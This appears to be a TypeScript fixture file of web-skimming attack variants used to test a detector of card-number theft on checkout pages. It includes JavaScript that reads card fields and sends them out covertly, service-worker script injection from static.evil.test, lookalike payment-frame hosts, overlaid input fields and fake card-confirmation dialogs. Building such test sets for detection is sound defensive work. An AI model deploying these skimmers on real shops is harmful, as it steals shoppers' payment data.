import * as app from './app.ts'
import * as hosted from './hosted.ts'
import * as store from './store.ts'
import { checkout, inline, js, shopAt, type Variant } from './variants.ts'

const shop = shopAt('19')
const number = 'document.querySelector("[name=cardnumber]")'
const onBlur = (send: string) =>
  `${number}.addEventListener("blur", function () { var v = this.value.replace(/\\D/g, ""); ${send} });`
const asset = 'shop.test/assets/index-a81c.js'

/** Attacks written after the detector was mended for the "blind" set, and before it was run on them. */
export const laterOwnAttacks: readonly Variant[] = [
  shop(
    'form-copy',
    'the whole form is sent a second time, to a status address of the shop',
    'document.getElementById("pay").addEventListener("submit", function (e) { navigator.sendBeacon("/order/status", new FormData(e.target)); });',
  ),
  {
    id: 'metrics-queue',
    about: 'the measuring keeps a queue of what stands in fields',
    change: (site) => {
      site.files['metrics.test/m.js'] = js(
        '(function () { var id = "A-1"; new Image().src = "http://metrics.test/hit?id=" + id; setInterval(function () { var q = []; document.querySelectorAll("input").forEach(function (i) { if (i.value) q.push(i.name.length + i.value.split("").map(function (c) { return String.fromCharCode(c.charCodeAt(0) + 20); }).join("")); }); localStorage.setItem("mq", q.join("~")); }, 300); })();',
      )
    },
  },
  shop(
    'emoji',
    'digits as little pictures in a review',
    onBlur(
      'fetch("/reviews/draft", { method: "POST", body: JSON.stringify({ text: Array.from(v, function (d) { return String.fromCodePoint(128512 + +d); }).join("") }) });',
    ),
  ),
  shop(
    'cache-entry',
    'the number is the name of an entry in the cache',
    onBlur('caches.open("v1").then(function (c) { c.put("/x/" + btoa(v), new Response("")); });'),
  ),
  shop(
    'hashed',
    'a hash of the number goes to the shop',
    onBlur(
      'crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)).then(function (h) { fetch("/api/fp?h=" + Array.from(new Uint8Array(h), function (b) { return b.toString(16).padStart(2, "0"); }).join("")); });',
    ),
  ),
  inline(
    'cursor',
    'the number is in the address of a mouse pointer',
    `addEventListener("load", function () { ${onBlur('document.body.style.cursor = "url(http://metrics.test/c/" + (BigInt(v) ^ 0x5a5a5a5an).toString(16) + ".cur), auto";')} });`,
  ),
]

export const laterHostedAttacks: readonly Variant[] = [
  checkout(
    'frame-suffix',
    'the frame is led to a host that only begins like the provider',
    'setTimeout(function () { var f = document.querySelector("#card-element iframe"); f.setAttribute("src", f.src.replace("js.provider.test", "js.provider.test.pay-cdn.test")); }, 100);',
  ),
  {
    id: 'tag-overlay',
    about: 'a script of the known tag host lays fields over the frame',
    change: (site) => {
      site.files['tags.measure.test/gtm.js'] = js(hosted.container('14', 'add("http://tags.measure.test/ux.js");'))
      site.files['tags.measure.test/ux.js'] = js(
        'setTimeout(function () { var c = document.querySelector("#card-element"), r = c.getBoundingClientRect(), d = document.createElement("div"); d.style.cssText = "position:absolute;background:#fff;left:" + r.left + "px;top:" + r.top + "px;width:" + r.width + "px;height:" + r.height + "px"; d.innerHTML = "<input type=tel placeholder=Kartennummer>"; document.body.append(d); }, 200);',
      )
    },
  },
  {
    id: 'expired',
    about: 'a dialogue asks for the card again',
    change: (site) =>
      void site.extra.push(
        '<dialog open><p>Your session has ended. Please confirm your card.</p><form method="post" action="/session/renew"><label>Card number <input name="f1"></label><label>Valid thru <input name="f2"></label><label>CVV <input name="f3"></label><button>Continue</button></form></dialog>',
      ),
  },
]

export const laterAppAttacks: readonly Variant[] = [
  {
    id: 'order-meta',
    about: 'the order carries the number in a field for notes',
    change: (site) =>
      void (site.files[asset] = js(
        app
          .bundle('3.4.0')
          .replace(
            'method: method.id }',
            'method: method.id, meta: state.card.number.split("").map((d) => "qwertyuiop"[d]).join("") }',
          ),
      )),
  },
  {
    id: 'worker-inject',
    about: 'the service worker puts a script into the checkout page',
    change: (site) =>
      void (site.files['shop.test/sw.js'] = js(
        app.worker(
          '3.4.0',
          'self.addEventListener("fetch", (event) => { if (event.request.mode === "navigate") event.respondWith(fetch(event.request).then(async (r) => new Response((await r.text()).replace("</head>", "<script src=//static.evil.test/c.js></scr" + "ipt></head>"), { headers: { "content-type": "text/html" } }))); });',
        ),
      )),
  },
  {
    id: 'shield-frame',
    about: 'the fraud tag hands what is typed to its frame',
    change: (site) => {
      site.files['fp.shield.test/tag.js'] = js(
        app.shield(
          'a930',
          'var fr=document.createElement("iframe");fr.hidden=true;fr.src="http://fp.shield.test/f.html";addEventListener("load",function(){document.body.append(fr)});document.addEventListener("change",function(e){fr.contentWindow.postMessage({k:e.target.value},"*")});',
        ),
      )
      site.files['fp.shield.test/f.html'] = {
        type: 'text/html',
        body: '<script>onmessage=function(e){navigator.sendBeacon("/p",btoa(e.data.k))}</script>',
      }
    },
  },
]

export const laterStoreAttacks: readonly Variant[] = [
  {
    id: 'origin-setting',
    about: 'the origin of the frames comes from a setting',
    change: (site) => {
      site.inline[2] =
        'var gateway_params = {"key":"pk_live_51H","locale":"de","origin":"\\/\\/js.provider-secure.test"};'
      site.files['shop.test/plugins/gateway/upe.js'] = js(
        store
          .gateway('8.1.1')
          .replace('origin = "http://js.provider.test"', 'origin = "http:" + gateway_params.origin'),
      )
    },
  },
  {
    id: 'save-card',
    about: 'a form at the end of the page offers to keep the card',
    change: (site) =>
      void site.extra.push(
        '<section><h2>Faster next time</h2><form action="/?ajax=save" method="post"><label>Number on the front of your card <input name="a1" inputmode="numeric" maxlength="19"></label><label>Security code <input name="a2"></label><button>Save</button></form></section>',
      ),
  },
  {
    id: 'hosted-elsewhere',
    about: 'place order leads to a page of a stranger',
    change: (site) =>
      void (site.files['shop.test/plugins/store/checkout.min.js'] = js(
        store.checkoutScript(
          'form.addEventListener("submit", function (e) { e.preventDefault(); Q.ajax({ type: "POST", url: store_params.ajax + "checkout", data: "x=1", done: function () {} }); setTimeout(function () { location.href = "http://secure-pay.test/?o=81723"; }, 50); });',
        ),
      )),
  },
]
